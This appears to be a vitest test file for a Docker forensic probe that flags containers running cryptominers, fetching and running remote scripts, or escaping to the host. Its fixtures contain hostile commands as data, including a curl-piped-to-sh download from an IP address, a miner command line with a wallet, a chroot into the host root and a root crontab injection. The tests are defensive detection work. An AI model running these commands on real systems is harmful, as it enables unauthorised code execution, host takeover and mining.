import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { docker } from './docker.ts';

const wallet = '888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
const id = 'ab12'.repeat(16);

interface Made {
  readonly root?: string;
  readonly words?: readonly string[];
  readonly image?: string;
  readonly environment?: readonly string[];
  readonly labels?: Readonly<Record<string, string>>;
  readonly host?: object;
  readonly mounts?: Readonly<Record<string, string>>;
}

function containerFiles(made: Made): Files {
  const { root = '/var/lib/docker', words = ['nginx'], image = 'nginx:1.27', environment = [], labels = {} } = made;
  const [program = '', ...rest] = words;
  const points = Object.entries(made.mounts ?? {}).map(([Destination, Source]) => [
    Destination,
    { Source, Destination },
  ]);
  return {
    [`${root}/containers/${id}/config.v2.json`]: JSON.stringify({
      ID: id,
      Created: '2026-11-20T10:00:00.123456789Z',
      Path: program,
      Args: rest,
      Name: '/web',
      State: { Running: true, StartedAt: '2026-11-20T10:00:01Z' },
      Config: { Image: image, Env: environment, Labels: labels },
      MountPoints: Object.fromEntries(points),
    }),
    [`${root}/containers/${id}/hostconfig.json`]: JSON.stringify({
      NetworkMode: 'bridge',
      RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
      ...made.host,
    }),
  };
}

function containersIn(files: Files): Record<string, unknown>[] {
  return runProbe(docker, machineOf(files)).flatMap((told) =>
    'kind' in told && told.kind === 'container' ? [{ ...told.value, aside: told.aside ?? false }] : [],
  );
}

describe('containers of Docker', () => {
  it('tells of a miner with its arguments, and asks to look at its description', () => {
    const words = ['./app', '-o', 'pool.example.com:3333', '-u', wallet, '--donate-level=1'];
    const told = runProbe(docker, machineOf(containerFiles({ words, image: 'alpine' })));
    const path = `/var/lib/docker/containers/${id}/config.v2.json`;
    expect(told).toContainEqual(
      expect.objectContaining({
        kind: 'container',
        path,
        value: expect.objectContaining({
          name: 'web',
          state: 'running',
          started: '2026-11-20T10:00:01.000Z',
          restart: 'always',
          mines: true,
          why: ['mines', 'restarts-for-ever'],
        }),
      }),
    );
    expect(told).toContainEqual(expect.objectContaining({ kind: 'mining-config' }));
    expect(told).toContainEqual(
      expect.objectContaining({
        kind: 'autostart',
        value: expect.objectContaining({ mechanism: 'container', why: ['mines'] }),
      }),
    );
    expect(told).toContainEqual({ examine: path });
    expect(told).toContainEqual({ looked: { at: 'containers of Docker', count: 1 } });
  });

  it('knows what a shell in it fetches and starts', () => {
    const words = ['sh', '-c', 'apk add curl; curl -s http://198.51.100.7/x.sh | sh'];
    expect(containersIn(containerFiles({ words }))).toMatchObject([
      { aside: false, why: ['fetches-and-runs', 'restarts-for-ever'] },
    ]);
  });

  it('knows a miner that takes its pool and its wallet from variables', () => {
    const environment = ['PATH=/bin', 'POOL=pool.example.com:3333', `ACCOUNT=${wallet}`];
    expect(containersIn(containerFiles({ image: 'registry.example.com/app', environment }))).toMatchObject([
      { mines: true },
    ]);
  });

  it('knows the way out: a shell in the whole machine, a line in its cron table', () => {
    const root = { '/mnt': '/' };
    for (const words of [
      ['chroot', '/mnt', 'bash'],
      ['sh', '-c', "echo '* * * * * root /bin/x' >> /mnt/etc/crontab"],
    ])
      expect(containersIn(containerFiles({ words, mounts: root }))).toMatchObject([
        { aside: false, why: ['sees-whole-machine', 'restarts-for-ever'] },
      ]);
  });

  it('keeps monitors and managers that see the whole machine as context', () => {
    const ordinary: Made[] = [
      {
        words: ['/bin/node_exporter', '--path.rootfs=/host'],
        mounts: { '/host': '/' },
        host: { NetworkMode: 'host', PidMode: 'host' },
      },
      { words: ['/portainer'], mounts: { '/var/run/docker.sock': '/var/run/docker.sock', '/data': '/srv/portainer' } },
      { words: ['/usr/bin/cadvisor', '-logtostderr'], mounts: { '/rootfs': '/' }, host: { Privileged: true } },
      { words: ['docker-entrypoint.sh', 'redis-server'], image: 'redis' },
    ];
    for (const made of ordinary) expect(containersIn(containerFiles(made))).toMatchObject([{ aside: true }]);
  });

  it('keeps a container that only reads the machine as context', () => {
    const words = ['sh', '-c', 'cat /host/etc/passwd | wc -l 2>/dev/null'];
    expect(containersIn(containerFiles({ words, mounts: { '/host': '/' } }))).toMatchObject([{ aside: true }]);
  });

  it('finds the folder that daemon.json names, and those of users', () => {
    const moved = {
      '/etc/docker/daemon.json': '{"data-root": "/data/docker"}',
      ...containerFiles({ root: '/data/docker' }),
    };
    expect(containersIn(moved)).toHaveLength(1);
    expect(containersIn(containerFiles({ root: '/home/ada/.local/share/docker' }))).toHaveLength(1);
  });

  it('asks to look at programs that a container wrote', () => {
    const layer = `/var/lib/docker/overlay2/${'cd34'.repeat(16)}/diff`;
    const told = runProbe(
      docker,
      machineOf({
        ...containerFiles({}),
        [`/var/lib/docker/image/overlay2/layerdb/mounts/${id}/mount-id`]: 'cd34'.repeat(16),
        [`${layer}/tmp/.x/kworker`]: { content: 'x', mode: 0o755 },
        [`${layer}/tmp/note.txt`]: 'x',
        [`${layer}/usr/bin/brought`]: { content: 'x', mode: 0o755 },
      }),
    );
    expect(told.filter((item) => 'examine' in item)).toEqual([{ examine: `${layer}/tmp/.x/kworker` }]);
  });

  it('tells of images that are known as miners', () => {
    const repositories = {
      Repositories: {
        'metal3d/xmrig': { 'metal3d/xmrig:latest': `sha256:${id}` },
        nginx: { 'nginx:1': `sha256:${id}` },
      },
    };
    expect(
      containersIn({ '/var/lib/docker/image/overlay2/repositories.json': JSON.stringify(repositories) }),
    ).toMatchObject([{ image: 'metal3d/xmrig:latest', why: ['miner-image'] }]);
  });

  it('says that a state is no JSON', () => {
    const broken = { [`/var/lib/docker/containers/${id}/config.v2.json`]: '{"ID": ' };
    expect(runProbe(docker, machineOf(broken))).toContainEqual(
      expect.objectContaining({ gap: expect.objectContaining({ code: 'malformed' }) }),
    );
  });
});
